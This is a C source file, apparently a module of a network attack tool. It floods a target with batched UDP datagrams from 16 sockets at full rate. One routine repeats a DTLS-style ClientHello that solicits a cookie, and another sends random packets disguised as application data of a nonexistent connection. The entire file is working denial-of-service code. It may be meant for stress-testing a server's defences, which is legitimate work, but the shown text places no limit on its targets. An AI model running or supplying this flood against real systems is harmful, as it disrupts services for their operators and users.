// Raw datagrams at full rate from many ports: ClientHellos, each of which asks for a cookie, and noise.
#define _GNU_SOURCE // sendmmsg
#include "attack.h"

#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { SOCKETS = 16, BATCH = 32 };

static void send_at_full_rate(attack *a, const uint8_t *data, size_t size)
{
    int sockets[SOCKETS];
    struct iovec part = {(void *)(uintptr_t)data, size};
    struct mmsghdr batch[BATCH];
    memset(batch, 0, sizeof batch);
    for (int i = 0; i < BATCH; i++) {
        batch[i].msg_hdr = (struct msghdr){.msg_iov = &part, .msg_iovlen = 1};
    }
    for (int i = 0; i < SOCKETS; i++) {
        sockets[i] = attack_socket(a, 0);
    }
    for (int i = 0; attack_goes_on(a); i = (i + 1) % SOCKETS) {
        int sent = sendmmsg(sockets[i], batch, BATCH, MSG_DONTWAIT);
        a->sent += sent > 0 ? (uint64_t)sent : 0;
        uint8_t answer[2048];
        while (recv(sockets[i], answer, sizeof answer, MSG_DONTWAIT) > 0) {
            a->connected++; // answers
        }
    }
    for (int i = 0; i < SOCKETS; i++) {
        close(sockets[i]);
    }
}

void attack_cookies(attack *a)
{
    uint8_t hello[CLIENT_HELLO_BYTES_MAX];
    size_t size = attack_client_hello(a, hello);
    if (size) {
        send_at_full_rate(a, hello, size);
    }
}

void attack_noise(attack *a)
{
    uint8_t noise[200];
    for (size_t i = 0; i < sizeof noise; i++) {
        noise[i] = (uint8_t)attack_random(a);
    }
    noise[0] = 0x17; // like application data of a connection that there is not
    send_at_full_rate(a, noise, sizeof noise);
}
